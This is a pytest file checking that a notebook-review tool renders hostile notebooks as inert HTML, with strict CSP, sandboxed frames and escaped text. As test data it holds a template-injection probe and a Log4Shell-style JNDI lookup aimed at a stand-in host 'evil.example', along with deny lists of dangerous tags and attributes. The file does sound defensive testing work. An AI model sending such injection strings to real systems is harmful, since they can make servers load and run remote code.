"""The page of a review without a browser: complete in itself, harmless, bounded. `tests/browser` has the rest."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from rasen.linter import LintFinding
from rasen.review.cell_view import Room, show_cells, show_output
from rasen.review.cleaning import clean_output, frame, render_markdown
from rasen.review.comparing import compare_contents
from rasen.review.content import read_content
from rasen.review.markup import colour_text, escape
from rasen.review.outputs import Output
from rasen.review.page import render_comparison, render_page
from rasen.review.report import FileReview, Findings, Review, Revision
from rasen.review.summary import render_summary
from stand.hostile_notebooks import (
    ELSEWHERE,
    HTML,
    MARKDOWN,
    NAMES,
    SVG,
    document,
    hostile_notebook,
    png,
    shown,
)
from stand.pipeline_folder import code_cell
from stand.reviewed import executed, text_cell, training

# What a page consists of; anything else came from a notebook.
OURS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "nav",
    "main",
    "script",
    "section",
    "header",
    "iframe",
}
MAY_LOAD = re.compile(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]*")


class Elements(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.append((tag, {name: value or "" for name, value in attributes}))

    def named(self, tag: str) -> list[dict[str, str]]:
        """Return the attributes of all elements of a name."""
        return [attributes for name, attributes in self.found if name == tag]


def compare(old: bytes | None, new: bytes | None) -> str:
    return render_comparison(old, new, title_old="old", title_new="new")


def check_harmless(page: str) -> None:
    """Hold every element and attribute of a page, and of the frames in it, to what it may be."""
    elements = Elements(page)
    assert [tag for tag, _ in elements.found if tag in ("script", "style")] == ["style", "script"]
    for tag, attributes in elements.found:
        assert tag not in (
            "form",
            "input",
            "button",
            "object",
            "embed",
            "base",
            "link",
            "svg",
            "math",
            "video",
        )
        assert not [
            name for name in attributes if name.startswith("on") or name in ("ping", "target", "action")
        ]
        if "src" in attributes:
            assert tag == "img"
            assert MAY_LOAD.fullmatch(attributes["src"])
        if "href" in attributes:
            assert tag == "a"
            assert attributes["href"].startswith(("#f", "https://", "http://", "mailto:"))
        if tag == "iframe":
            assert attributes["sandbox"] == ""
            inside = Elements(attributes["srcdoc"])
            policy = inside.named("meta")[1]
            assert policy["http-equiv"] == "Content-Security-Policy"
            assert policy["content"].startswith("default-src 'none'")
            assert not {"script", "iframe", "form", "input", "svg", "a", "link", "base"} & {
                name for name, _ in inside.found
            }
            assert len(inside.named("meta")) == 2
            assert len(inside.named("style")) == 1
            for name, its in inside.found:
                assert not [one for one in its if one.startswith("on") or one in ("style", "id", "class")], (
                    name
                )
                assert MAY_LOAD.fullmatch(its.get("src", "data:image/png;base64,"))


def test_a_hostile_notebook_becomes_text() -> None:
    hostile = hostile_notebook()
    other = document([code_cell("x = 1", "code-0"), text_cell("x", "text-1")])
    for sides in ((None, hostile), (hostile, None), (other, hostile), (hostile, other)):
        page = compare(*sides)
        check_harmless(page)
        assert "{{7*7}}" in page
        assert "${jndi:ldap://evil.example/a}" in page
        assert (
            "49" not in re.sub(r"<style>.*?</style>|#?[0-9a-f]{6}|\d{3,}", "", page, flags=re.DOTALL)[:2000]
        )


def test_names_and_texts_of_others_are_text_everywhere() -> None:
    payload = NAMES[0].removesuffix(".ipynb")
    finding = LintFinding(code=payload, severity=payload, message=payload, cell=0, line=1)
    content = read_content(document([code_cell(payload, payload)]), name=payload)
    file = FileReview(
        path=f"{payload}/{NAMES[1]}",
        old_path=payload,
        change="renamed",
        notebook=compare_contents(None, content),
        note=payload,
        findings=Findings(new=(finding,), old=(finding,), note=payload),
    )
    revision = Revision(name=payload, commit="0" * 40, subject=payload)
    text = FileReview(path=f"{payload}.yaml", old_path=None, change="added", new=payload)
    review = Review(asked_base=payload, base=revision, head=revision, files=(file, text), notes=(payload,))
    page = render_page(review)
    check_harmless(page)
    assert Elements(page).named("img") == []
    assert "{{7*7}}${jndi:ldap:}" in page
    summary = render_summary(review)
    assert "<" not in summary.replace("<!-- -->", "")
    assert "{{7" not in summary


@pytest.mark.parametrize("text", HTML)
def test_html_of_outputs_loses_what_acts(text: str) -> None:
    cleaned = clean_output(text)
    assert ELSEWHERE not in re.sub(r">[^<]*<", "><", f">{cleaned}<")
    check_harmless(compare(None, document([executed("x", "x", shown("text/html", text))])))


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown_loads_nothing_and_links_only_openly(text: str) -> None:
    elements = Elements(render_markdown(text))
    for tag, attributes in elements.found:
        assert tag in {"p", "a", "i", "pre", "code", "em", "br", "h1", "blockquote"}
        assert set(attributes) <= {"href", "rel"}
        assert attributes.get("href", "https://").startswith("https://")


def test_markdown_shows_what_lies_in_the_notebook() -> None:
    picture = f"data:image/png;base64,{png(1)}"
    assert f'src="{picture}"' in render_markdown("![a](attachment:p.png)", {"p.png": picture})
    assert "(picture not shown)" in render_markdown("![a](attachment:q.png)", {"p.png": picture})
    assert f'src="{picture}"' in render_markdown(f"![a]({picture})")
    assert "<table>" in render_markdown("| a |\n|---|\n| b |")
    assert "&lt;b&gt;" in render_markdown("a <b>bold</b>")


def test_an_svg_is_a_picture_and_no_part_of_the_page() -> None:
    shown_svg = show_output(Output(kind="svg", text=SVG, mime="image/svg+xml"))
    (image,) = Elements(shown_svg).named("img")
    assert base64.b64decode(image["src"].partition(",")[2]).decode() == SVG


def test_the_policy_allows_one_script_by_its_digest() -> None:
    page = compare(None, document([]))
    (policy,) = [one["content"] for one in Elements(page).named("meta") if "http-equiv" in one]
    script = page.partition("<script>")[2].partition("</script>")[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in policy
    assert policy.startswith("default-src 'none'")
    assert "unsafe-eval" not in policy
    for word in ("http://", "https://", "innerHTML", "eval("):
        assert word not in page


def test_what_nobody_sees_is_named() -> None:
    assert (
        escape("a\u202eb\u200b") == 'a<span class="hidden">U+202E</span>b<span class="hidden">U+200B</span>'
    )
    assert escape("größe\t値\n") == "größe\t値\n"
    assert "U+D800" in compare(None, document([code_cell("x = '\ud800'", "x")]))
    compare(None, document([code_cell("x = '\ud800\x00'", "x")])).encode()


@pytest.mark.parametrize(
    ("text", "shown_as"),
    [
        ("\x1b[31mred\x1b[0m.", '<span class="t31">red</span>.'),
        ("\x1b[1;32mgreen\x1b[39mbold", '<span class="t1 t32">green</span><span class="t1">bold</span>'),
        ("\x1b[38;5;9mx\x1b[38;2;1;2;3my", '<span class="t31">x</span><span class="t31">y</span>'),
        ("\x1b[2J\x1b]0;title\x07a", "a"),
        ("\x1b[31m<b>", '<span class="t31">&lt;b&gt;</span>'),
        ("\x1b[" + "1;" * 5000 + "m", ""),
    ],
)
def test_colours_of_a_terminal_are_classes(text: str, shown_as: str) -> None:
    assert colour_text(text) == shown_as


def test_a_reviewer_sees_what_changed() -> None:
    page = compare(training(changed=False), training(changed=True))
    for words in (
        "<ins>, deeper trees</ins>",
        "moved, was cell",
        "1 unchanged cell",
        '<span class="t1 t32">----&gt; 1</span>',
    ):
        plain = re.sub(r"<span class=\"\w{3}\">(.*?)</span>", r"\1", page)
        assert words in plain.replace("</ins><ins>", ""), words
    assert page.count("data:image/png") == 2  # of two plots one has other pixels
    assert '<details class="cell outputs"' in page


def test_outputs_that_stayed_are_not_shown_again() -> None:
    output = shown("image/png", png(1))
    page = compare(document([executed("x = 1", "x", output)]), document([executed("x = 2", "x", output)]))
    assert "outputs: the same" in page
    assert "data:image/png" not in page


def test_nothing_differs_is_said() -> None:
    data = training(changed=False)
    assert "<p>Nothing differs.</p>" in compare(data, data)


def test_a_version_that_cannot_be_read_is_a_sentence() -> None:
    page = compare(b'{"cells": [', document([code_cell("x = 1", "x")]))
    assert "old version cannot be shown: old, line 1, column 12: not JSON" in page
    assert "cell 0" in page


def test_large_outputs_are_cut_and_said_to_be() -> None:
    text = "x" * 5_000_000
    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": text},
        shown("text/html", f"<p>{text}"),
        shown("text/markdown", text),
        shown("image/png", png(1, comment=text)),
        shown("image/png", png(1, width=100_000, height=1).replace("\n", "")),
        shown("image/svg+xml", f"<svg>{text}</svg>"),
        shown("application/json", {"a": text}),
        {"output_type": "error", "ename": "E", "evalue": text, "traceback": [text] * 2},
    ]
    page = compare(None, document([executed("x", "x", *outputs)]))
    assert len(page) < 1_000_000
    assert "more characters" in page
    assert "too large to show" in page
    assert "of HTML the first" in page


def test_a_page_ends_when_it_is_full() -> None:
    cells = [code_cell(f"value_{n} = {n}", f"c{n}") for n in range(10_000)]
    change = compare_contents(None, read_content(document(cells), name="x"))
    page = show_cells(change, prefix="f0", room=Room(100_000))
    assert len(page) < 120_000
    assert "left out, the page is full" in page
    same = compare_contents(*[read_content(document(cells), name="x")] * 2)
    folded = show_cells(same, prefix="f0", room=Room(10_000_000))
    assert "10,000 unchanged cells" in folded
    assert len(folded) < 200_000


def test_a_new_finding_in_an_unchanged_cell_is_shown() -> None:
    content = read_content(document([code_cell("a", "a"), code_cell("b", "b")]), name="x")
    finding = LintFinding(code="NB208", severity="error", message="used before its cell", cell=1, line=1)
    page = show_cells(compare_contents(content, content), prefix="f", room=Room(10**6), new=[finding])
    assert "1 unchanged cell<" in page
    assert "NB208" in page
    known = show_cells(compare_contents(content, content), prefix="f", room=Room(10**6), old=[finding])
    assert "NB208" not in known


def test_a_frame_is_as_high_as_its_rows_say() -> None:
    heights = [int(re.findall(r"height:(\d+)px", frame("<p>x" * rows))[0]) for rows in (0, 5, 1000)]
    assert heights == sorted(heights)
    assert heights[-1] < 500
